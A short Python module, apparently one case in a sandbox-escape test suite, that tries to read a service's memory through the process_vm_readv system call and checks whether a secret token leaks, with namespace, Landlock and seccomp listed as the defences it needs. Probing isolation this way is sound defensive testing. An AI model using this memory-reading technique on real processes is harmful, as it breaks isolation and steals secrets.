"""Read the service's memory by process_vm_readv, which needs no file."""

import ctypes
import struct

from escape_tools import call

NEEDS = ("pid_namespace", "landlock", "seccomp")


def attempt(at):
    buffer = ctypes.create_string_buffer(32)
    here = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(buffer), 32))
    there = ctypes.create_string_buffer(struct.pack("PN", at.address, 32))
    call("process_vm_readv", at.service, here, 1, there, 1, 0)
    return buffer.raw.decode()


def proof(at, seen):
    return seen.tells(at.token)
